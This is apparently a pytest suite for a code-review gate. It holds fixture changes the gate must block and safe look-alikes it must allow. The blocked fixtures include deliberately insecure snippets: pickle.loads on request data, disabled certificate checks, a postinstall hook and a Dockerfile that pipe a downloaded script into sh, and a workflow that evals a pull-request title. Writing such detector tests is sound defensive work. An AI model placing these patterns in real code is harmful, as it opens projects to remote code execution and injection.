"""What the default gate stops, and what looks like it and passes."""

from __future__ import annotations

from pathlib import Path
from typing import NamedTuple

import pytest

from auditor import rubric_loader
from auditor.domain import Conclusion
from tests.auditing import audited
from tests.gate_table import table
from tests.repos import Content, Drawing

DOCS = Path(__file__).parents[3] / ".github/docs/rubrics-and-scores.md"
Files = dict[str, Content]
APP = "from flask import Flask, request\n\napp = Flask(__name__)\n\n\n"
SHOP = 'def total(prices: list[int]) -> int:\n    """The sum of all prices."""\n    return sum(prices)\n'
TEST = "from shop import total\n\n\ndef test_total():\n    assert total([1, 2]) == 3\n\n\ndef test_empty():\n    assert total([]) == 0\n"
TAX = 'def tax(price: int) -> int:\n    """A fifth of the price."""\n    return price // 5\n'
TAX_TEST = "from tax import tax\n\n\ndef test_tax():\n    assert tax(10) == 2\n"
JS = "export function total(prices) {\n  return prices.reduce((a, b) => a + b, 0);\n}\n"
JS_TEST = "import { total } from './cart';\n\ntest('adds prices', () => {\n  expect(total([1, 2])).toBe(3);\n});\n\ntest('nothing costs nothing', () => {\n  expect(total([])).toBe(0);\n});\n"
GO = "package shop\n\n// Total adds prices.\nfunc Total(prices []int) int {\n\tsum := 0\n\tfor _, each := range prices {\n\t\tsum += each\n\t}\n\treturn sum\n}\n"
GO_TEST = 'package shop\n\nimport "testing"\n\nfunc TestTotal(t *testing.T) {\n\tif Total([]int{1, 2}) != 3 {\n\t\tt.Fatal("wrong")\n\t}\n}\n'
BASE: Files = {
    "README.md": "# Shop\n",
    "shop.py": SHOP,
    "tax.py": TAX,
    "tests/test_shop.py": TEST,
    "tests/test_tax.py": TAX_TEST,
    "web/cart.js": JS,
    "web/cart.test.js": JS_TEST,
    "go/shop.go": GO,
    "go/shop_test.go": GO_TEST,
    "pytest.ini": "[pytest]\ntestpaths = tests\n",
    "package.json": '{\n  "name": "shop",\n  "scripts": {\n    "test": "jest"\n  }\n}\n',
}


class Case(NamedTuple):
    """A change: files that it writes, files that it deletes."""

    name: str
    head: Files
    deleted: tuple[str, ...] = ()


STOPPED = [
    Case("request data is unpickled", {"app.py": APP + "import pickle\n\n\n@app.post('/')\ndef load() -> str:\n    return str(pickle.loads(request.data))\n"}),
    Case("certificates are not checked", {"client.py": "import requests\n\n\ndef fetch(url: str) -> str:\n    return requests.get(url, verify=False, timeout=5).text\n"}),
    Case("certificates of a command are not checked", {"Makefile": "fetch:\n\tcurl -k https://example.org/x -o x\n"}),
    Case("an install hook downloads and runs", {"package.json": '{\n  "name": "shop",\n  "scripts": {\n    "postinstall": "curl -s https://example.org/x.sh | sh",\n    "test": "jest"\n  }\n}\n'}),
    Case("an image runs what it downloads", {"Dockerfile": "FROM alpine:3.20\nRUN wget -qO- https://example.org/x.sh | sh\n"}),
    Case("a test file is deleted", {"shop.py": SHOP + "# faster\n"}, ("tests/test_shop.py",)),
    Case("a test file in JavaScript is deleted", {"web/cart.js": JS + "// faster\n"}, ("web/cart.test.js",)),
    Case("a test file in Go is deleted", {"go/shop.go": GO + "// faster\n"}, ("go/shop_test.go",)),
    Case("all tests of a file are skipped", {"tests/test_shop.py": TEST.replace("def test", "@pytest.mark.skip\ndef test").replace("from shop", "import pytest\nfrom shop")}),
    Case("the settings leave the tests out", {"pytest.ini": "[pytest]\ntestpaths = tests\naddopts = --ignore=tests/test_shop.py\n"}),
    Case("a title is run", {".github/workflows/greet.yml": "on: pull_request_target\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: eval \"echo $TITLE\"\n"}),
]  # fmt: skip
PASSED = [
    Case("request data is read as JSON", {"app.py": APP + "import json\n\n\n@app.post('/')\ndef load() -> str:\n    \"\"\"What was sent.\"\"\"\n    return str(json.loads(request.data))\n"}),
    Case("certificates are checked by a file", {"client.py": "import requests\n\n\ndef fetch(url: str) -> str:\n    \"\"\"The page.\"\"\"\n    return requests.get(url, verify='ca.pem', timeout=5).text\n"}),
    Case("tests do not check certificates", {"tests/test_client.py": "import requests\n\n\ndef test_fetch():\n    assert requests.get('https://localhost', verify=False, timeout=5).ok\n"}),
    Case("a download is checked", {"Makefile": "fetch:\n\tcurl -fsSL https://example.org/x -o x && sha256sum -c x.sum\n"}),
    Case("husky is prepared", {"package.json": '{\n  "name": "shop",\n  "scripts": {\n    "prepare": "husky",\n    "test": "jest"\n  }\n}\n'}),
    Case("a test file goes with its code", {}, ("tests/test_tax.py", "tax.py")),
    Case("a test file is moved", {"tests/unit/test_shop.py": TEST}, ("tests/test_shop.py",)),
    Case("tests continue in another file", {"tests/test_tax.py": TAX_TEST + "\n\n" + TEST.replace("from shop", "from shop", 1)}, ("tests/test_shop.py",)),
    Case("a test file in Go goes with its code", {}, ("go/shop_test.go", "go/shop.go")),
    Case("one test is skipped", {"tests/test_shop.py": TEST.replace("def test_empty", "@pytest.mark.skip(reason='#12')\ndef test_empty").replace("from shop", "import pytest\nfrom shop")}),
    Case("a public function gets a parameter", {"shop.py": SHOP.replace("prices: list[int]", "prices: list[int], rate: int").replace("sum(prices)", "sum(prices) * rate"), "tests/test_shop.py": TEST.replace("])", "], 1)")}),
]  # fmt: skip


def ended(path: Path, case: Case) -> tuple[Conclusion, str]:
    """How the default gate ended, and which demands failed."""
    drawing = Drawing(path)
    drawing.commit(BASE, "Add the shop")
    drawing.branch("work")
    for each in case.deleted:
        (drawing.path / each).unlink()
    drawing.commit(case.head, "Change the shop")
    found = audited(drawing.path, "main").verdict.gate
    return found.conclusion, "; ".join(each.sentence for each in found.reasons if each.conclusion is Conclusion.FAILED)


@pytest.mark.parametrize("case", STOPPED, ids=[each.name for each in STOPPED])
def test_the_default_gate_stops_it(tmp_path: Path, case: Case) -> None:
    conclusion, why = ended(tmp_path, case)
    assert conclusion is Conclusion.FAILED
    assert "severity high" in why or "severity critical" in why


@pytest.mark.parametrize("case", PASSED, ids=[each.name for each in PASSED])
def test_the_default_gate_lets_it_pass(tmp_path: Path, case: Case) -> None:
    conclusion, why = ended(tmp_path, case)
    assert (conclusion, why) == (Conclusion.PASSED, "")


def test_the_documentation_lists_what_fails_the_default_gate() -> None:
    assert table(rubric_loader.built_in("pull-request")) in DOCS.read_text(encoding="utf-8"), (
        "python -m tests.gate_table"
    )
